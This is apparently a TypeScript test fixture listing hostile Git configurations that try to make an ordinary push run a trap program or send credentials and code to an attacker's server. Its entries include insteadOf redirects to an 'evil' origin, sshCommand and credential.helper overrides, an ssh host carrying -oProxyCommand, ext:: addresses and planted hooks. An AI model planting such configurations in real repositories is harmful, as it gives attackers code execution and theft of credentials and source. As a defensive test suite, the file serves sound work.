/** The paths and origins that a trap uses. */
export interface RemotePlaces {
  /** A program that leaves a mark when it runs. */
  trap: string;
  /** The user's work tree. */
  folder: string;
  /** A folder of the attacker. */
  outside: string;
  /** The address of the user's remote. */
  url: string;
  /** The origin of the Git host. */
  host: string;
  /** The origin of an attacker's server, which records each request. */
  evil: string;
}

/** A repository whose configuration tries to make a push do more than push. */
export interface HostileRemote {
  name: string;
  /** Text that is appended to the repository's configuration. */
  config: (places: RemotePlaces) => string;
  /** A shell script that is run in the work tree in addition. */
  plant?: (places: RemotePlaces) => string;
  /** Triggers the trap with an ordinary push: leaves a mark or sends a request to the attacker. Default: `git push`. */
  careless?: string;
  /** The expected outcome; pushed to the host when absent. */
  outcome?: 'refused' | 'folder' | 'ssh';
}

/** Its kind follows from its host name, so no network request is needed. */
const ssh = (): string => '[remote "origin"]\n\turl = git@gitlab.example.org:robin/lighthouse.git';

export const hostileRemotes: HostileRemote[] = [
  {
    name: 'url.insteadOf',
    config: ({ host, evil }) => `[url "${evil}/"]\n\tinsteadOf = ${host}/`,
  },
  {
    name: 'url.pushInsteadOf',
    config: ({ host, evil }) => `[url "${evil}/"]\n\tpushInsteadOf = ${host}/`,
  },
  {
    name: 'url.insteadOf to an ext:: address',
    config: ({ host, trap }) => `[protocol]\n\tallow = always\n[url "ext::${trap} "]\n\tinsteadOf = ${host}/`,
  },
  { name: 'core.sshCommand', config: ({ trap }) => `${ssh()}\n[core]\n\tsshCommand = ${trap}`, outcome: 'ssh' },
  {
    name: 'core.sshCommand in a file that is included by condition',
    config: ({ outside }) => `${ssh()}\n[includeIf "gitdir:/"]\n\tpath = ${outside}/more`,
    plant: ({ trap, outside }) => `printf '[core]\\n\\tsshCommand = ${trap}\\n' > '${outside}/more'`,
    outcome: 'ssh',
  },
  {
    name: 'core.sshCommand in the configuration of the worktree',
    config: () => `${ssh()}\n[extensions]\n\tworktreeConfig = true`,
    plant: ({ trap }) => `printf '[core]\\n\\tsshCommand = ${trap}\\n' > .git/config.worktree`,
    outcome: 'ssh',
  },
  {
    name: 'a host that is an option of ssh',
    config: ({ trap }) => `[remote "origin"]\n\turl = ssh://-oProxyCommand=${trap}/robin/lighthouse.git`,
    // Git itself has refused such a host since 2017.
    careless: '"$TRAP"',
    outcome: 'refused',
  },
  {
    name: 'remote.origin.receivepack',
    config: ({ trap }) => `[remote "origin"]\n\treceivepack = ${trap}\n\turl = ./inner.git`,
    plant: () => 'git clone --quiet --bare . inner.git',
    outcome: 'folder',
  },
  {
    name: 'a remote inside the repository with hooks and programs of its own',
    config: () => '[remote "origin"]\n\turl = ./inner.git',
    plant: ({ trap }) => `git clone --quiet --bare . inner.git; mkdir -p inner.git/hooks
for hook in pre-receive update post-receive post-update reference-transaction; do cp '${trap}' inner.git/hooks/$hook; done
git -C inner.git config core.alternateRefsCommand '${trap}'; git -C inner.git config core.fsmonitor '${trap}'`,
    outcome: 'folder',
  },
  { name: 'http.proxy', config: ({ evil }) => `[http]\n\tproxy = ${evil}` },
  { name: 'http.proxy for that very host', config: ({ evil, host }) => `[http "${host}"]\n\tproxy = ${evil}` },
  { name: 'remote.origin.proxy', config: ({ evil }) => `[remote "origin"]\n\tproxy = ${evil}` },
  { name: 'credential.helper', config: ({ trap }) => `[credential]\n\thelper = "!${trap}"` },
  {
    name: 'credential.helper for that very host',
    config: ({ trap, host }) => `[credential "${host}"]\n\thelper = ${trap}\n\tusername = robin`,
  },
  { name: 'core.askPass', config: ({ trap }) => `[core]\n\taskPass = ${trap}` },
  {
    name: 'a pre-push hook',
    config: () => '',
    plant: ({ trap }) => `mkdir -p .git/hooks; cp '${trap}' .git/hooks/pre-push`,
  },
  {
    name: 'core.hooksPath',
    config: ({ outside }) => `[core]\n\thooksPath = ${outside}/hooks`,
    plant: ({ trap, outside }) => `mkdir -p '${outside}/hooks'; cp '${trap}' '${outside}/hooks/pre-push'`,
  },
  {
    name: 'push.gpgSign',
    config: ({ trap }) => `[push]\n\tgpgSign = true\n[gpg]\n\tprogram = ${trap}\n[commit]\n\tgpgSign = true`,
    careless: 'git commit --allow-empty -m x',
  },
  {
    name: 'core.gitProxy',
    config: ({ trap }) => `[core]\n\tgitProxy = ${trap}\n[remote "origin"]\n\turl = git://127.0.0.1:1/x.git`,
    outcome: 'refused',
  },
  {
    name: 'an ext:: address',
    config: ({ trap }) => `[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\turl = ext::${trap}`,
    outcome: 'refused',
  },
  {
    name: 'a remote helper of its own',
    config: ({ evil }) => `[remote "origin"]\n\tvcs = http\n\turl = ${evil}/robin/lighthouse.git\n\tpushurl = evil::x`,
    careless: 'git push $(git config remote.origin.url | tail -n 1) HEAD:refs/heads/careless',
    outcome: 'refused',
  },
  {
    name: 'a second pushurl',
    config: ({ url, evil }) => `[remote "origin"]\n\tpushurl = ${url}\n\tpushurl = ${evil}/robin/lighthouse.git`,
  },
  {
    name: 'http.cookieFile and headers',
    config: ({ evil }) => `[http]\n\textraHeader = X-Evil: 1\n\tfollowRedirects = true\n\tproxy = ${evil}`,
  },
];

/** An ordinary push. */
export const CARELESS = 'git push origin HEAD:refs/heads/careless';
